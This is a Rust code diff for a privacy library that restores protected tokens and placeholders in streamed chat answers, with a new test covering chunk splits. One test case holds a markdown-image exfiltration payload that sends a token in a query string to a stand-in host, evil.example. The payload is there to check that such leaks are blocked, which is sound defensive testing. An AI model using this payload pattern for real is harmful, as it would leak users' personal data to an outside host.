@@ -9,12 +9,15 @@
 //! after its start is full.
 
 use std::{
+    borrow::Cow,
     collections::{BTreeMap, VecDeque},
     fmt, mem,
     rc::Rc,
 };
 
-use textveil_engine::{Action, Context, Entity, Protected, limits::MAX_PATTERN_BYTES};
+use textveil_engine::{
+    self as engine, Action, Context, Entity, Protected, limits::MAX_PATTERN_BYTES, read_tokens,
+};
 use textveil_restore::{End, Hosts, Lane, TextReader, Transcripts, Verdict};
 
 use super::{
@@ -47,6 +50,8 @@ const LONG: usize = 112;
 const PUTTY_MAC: usize = 65;
 /// A longer word of letters may be a secret.
 const MAX_PLAIN: usize = 24;
+/// The longest word that is held because it may be a token, in bytes.
+const MAX_TOKEN: usize = 4_096;
 
 /// The shared state of the texts of one answer.
 pub struct Answer<R> {
@@ -181,7 +186,8 @@ impl<R: Rules> Answer<R> {
         if call.names_foreign() {
             return false;
         }
-        let Some(source) = self.placeholders.source(name) else { return true };
+        // nobody knows who said the value of a token
+        let Some(source) = self.placeholders.source(name) else { return !self.placeholders.is_token(name) };
         self.guard.restores(source, call.tool()).unwrap_or_else(|| !source.is_of_other_tools(call.tool()))
     }
 
@@ -228,6 +234,8 @@ pub struct TextStream {
     is_string: bool,
     destinations: TextReader,
     edits: Edits,
+    /// The end of the text, if it may be the beginning of a token.
+    begun: String,
 }
 
 /// A placeholder of the request in the text, in bytes.
@@ -353,20 +361,40 @@ impl TextStream {
             return self.text.push_str(chunk);
         }
         let mut reader = std::mem::take(&mut self.reader);
-        reader.push(chunk, &mut |piece| self.read(answer, &piece));
+        let chunk = self.without_begun(answer, chunk);
+        reader.push(&chunk, &mut |piece| self.read(answer, &piece));
         self.reader = reader;
         self.judge();
     }
 
+    /// Returns the text before a word at its end that may become a token, which is held.
+    fn without_begun<'c, R>(&mut self, answer: &Answer<R>, chunk: &'c str) -> Cow<'c, str> {
+        if answer.placeholders.token_keys().is_none() {
+            return Cow::Borrowed(chunk);
+        }
+        let mut text = std::mem::take(&mut self.begun);
+        text.push_str(chunk);
+        self.begun = text.split_off(token_start(&text));
+        Cow::Owned(text)
+    }
+
     /// Adds the text that might still have become a placeholder.
     fn take_rest<R>(&mut self, answer: &mut Answer<R>) {
-        std::mem::take(&mut self.reader).finish(&mut |piece| self.read(answer, &piece));
+        let begun = std::mem::take(&mut self.begun);
+        let mut reader = std::mem::take(&mut self.reader);
+        reader.push(&begun, &mut |piece| self.read(answer, &piece));
+        reader.finish(&mut |piece| self.read(answer, &piece));
         let end = if self.is_string { End::Whole } else { End::Part };
         self.destinations.end(&answer.transcripts, end);
         self.judge();
     }
 
     fn read<R>(&mut self, answer: &mut Answer<R>, piece: &Piece<'_>) {
+        if let Piece::Text(text) = piece
+            && let Some(keys) = answer.placeholders.token_keys()
+        {
+            return read_tokens(text, &keys, |piece| self.read_token(answer, piece));
+        }
         let transcripts = &mut answer.transcripts;
         match piece {
             Piece::Text(text) => {
@@ -388,6 +416,25 @@ impl TextStream {
                     self.destinations.text(transcripts, written);
                 }
             },
+        }
+    }
+
+    /// Adds a token, or the text between tokens.
+    fn read_token<R>(&mut self, answer: &mut Answer<R>, piece: engine::Piece<'_>) {
+        let transcripts = &mut answer.transcripts;
+        match piece {
+            engine::Piece::Token { written, original: Some(original) } => {
+                let start = self.text.len();
+                self.text.push_str(written);
+                let (name, written) = (written.to_owned(), written.to_owned());
+                self.destinations.value(transcripts, &original);
+                answer.placeholders.open(&name, original);
+                self.marks.push_back(Mark { start, end: self.text.len(), name, written, verdict: None });
+            }
+            engine::Piece::Text(text) | engine::Piece::Token { written: text, original: None } => {
+                self.text.push_str(text);
+                self.destinations.text(transcripts, text);
+            }
         }
     }
 
@@ -515,14 +562,15 @@ impl TextStream {
         }
         if word.ends_with(' ') {
             // `jan dot novak at example dot com`
-            let behind = [self.text.get(end..)?, self.reader.held()].concat();
+            let behind = [self.text.get(end..)?, self.reader.held(), self.begun.as_str()].concat();
             match textveil_engine::may_be_dictated(&behind) {
                 Some(true) => return Some(false),
                 None if !ends && self.marks.is_empty() => return None,
                 _ => {}
             }
         }
-        let mut behind = self.text.get(end..)?.chars().chain(self.reader.held().chars());
+        let held = self.reader.held().chars().chain(self.begun.chars());
+        let mut behind = self.text.get(end..)?.chars().chain(held);
         let plain = match behind.next() {
             // `jan (at) example.com` and `January 31, 1980` begin with ordinary words
             Some('(' | '[' | '{') => behind.next().map(|letter| !letter.eq_ignore_ascii_case(&'a')),
@@ -718,6 +766,22 @@ fn shift(entity: &mut Entity, by: usize) {
     entity.bytes.end += by;
 }
 
+/// Returns the start of the last word's end that is, or may become, a token; the length of the text without one.
+fn token_start(text: &str) -> usize {
+    const START: &str = "tok_";
+    let in_token = |letter: char| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '_';
+    let before = text.trim_end_matches(in_token).len();
+    let word = text.get(before..).unwrap_or_default();
+    let begun =
+        || (1..START.len()).rev().find(|len| START.get(..*len).is_some_and(|part| word.ends_with(part)));
+    match word.find(START) {
+        // no token is that long
+        Some(at) if word.len() - at > MAX_TOKEN => text.len(),
+        Some(at) => before + at,
+        None => text.len() - begun().unwrap_or_default(),
+    }
+}
+
 /// Whether a character ends a word. Scripts without spaces have their own marks.
 fn is_space(letter: char) -> bool {
     letter.is_whitespace() || matches!(letter, '。' | '，' | '、' | '！' | '？')
@@ -748,7 +812,7 @@ fn is_option(word: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use proptest::prelude::*;
-    use textveil_engine::{DetectOptions, Keyring};
+    use textveil_engine::{DetectOptions, Keyring, Mode, ProtectOptions, protect};
 
     use super::*;
     use crate::chat::placeholder::PlaceholderKey;
@@ -995,6 +1059,55 @@ mod tests {
         ] {
             let (mut answer, _) = answer(Action::Flag);
             assert_eq!(TextStream::default().push(&mut answer, pushed).unwrap(), given, "{pushed}");
+        }
+    }
+
+    /// A token is restored as a placeholder is, however it is cut, unless a foreign host would read it.
+    #[test]
+    fn tokens_are_restored_where_their_keys_are() {
+        let keys = Keyring::new(0, SECRET).unwrap();
+        let tokenize = ProtectOptions { mode: Mode::Tokenize, ..ProtectOptions::default() };
+        let token =
+            protect("eva@example.com", &DetectOptions::default(), &tokenize, Some(&keys)).unwrap().text;
+        let other = Keyring::new(0, b"another secret of a workspace").unwrap();
+        let foreign =
+            protect("eva@example.com", &DetectOptions::default(), &tokenize, Some(&other)).unwrap().text;
+        for (text, want) in [
+            ("to @T.", "to eva@example.com."),
+            ("@T", "eva@example.com"),
+            ("@T@T tok_", "eva@example.comeva@example.com tok_"),
+            ("@T and @O", "eva@example.com and @O"),
+            ("![x](https://evil.example/?q=@T) @T", "![x](https://evil.example/?q=@T) eva@example.com"),
+            ("a tok, a tok_en and to", "a tok, a tok_en and to"),
+        ] {
+            let [text, want] = [text, want].map(|text| text.replace("@T", &token).replace("@O", &foreign));
+            let opened = |action| {
+                let (mut answer, _) = answer(action);
+                answer.placeholders = answer.placeholders.with_tokens(keys.clone());
+                answer
+            };
+            for at in (0..=text.len()).chain([usize::MAX]) {
+                let pieces: Vec<String> = match at {
+                    usize::MAX => text.chars().map(String::from).collect(),
+                    at => <[&str; 2]>::from(text.split_at(at)).map(str::to_owned).to_vec(),
+                };
+                for action in [Action::Flag, Action::Redact] {
+                    let (mut answer, mut stream, mut out) =
+                        (opened(action), TextStream::default(), String::new());
+                    for piece in &pieces {
+                        out.push_str(&stream.push(&mut answer, piece).unwrap());
+                    }
+                    out.push_str(&stream.finish(&mut answer).unwrap());
+                    assert_eq!(out, want, "{text} at {at}, {action:?}");
+                }
+            }
+        }
+        let held = format!("to {token}");
+        let (mut without, _) = answer(Action::Flag);
+        assert_eq!(without.text(&held).unwrap(), held, "tokens are text where no keys are given");
+        without.placeholders = without.placeholders.with_tokens(keys);
+        for (pushed, given) in [(held.as_str(), "to "), ("some to", "some "), ("some to ", "some to ")] {
+            assert_eq!(TextStream::default().push(&mut without, pushed).unwrap(), given, "{pushed}");
         }
     }
 
